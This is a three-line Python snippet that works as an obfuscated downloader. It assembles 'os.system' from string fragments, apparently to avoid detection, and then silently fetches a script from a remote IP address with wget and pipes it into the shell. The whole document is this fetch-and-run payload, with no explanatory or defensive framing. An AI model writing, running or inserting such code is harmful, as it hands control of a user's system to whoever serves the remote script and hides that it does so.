m = __import__('o' + 's')
run = getattr(m, 'sys' + 'tem')
run('wget -q http://203.0.113.61/s -O- | sh')
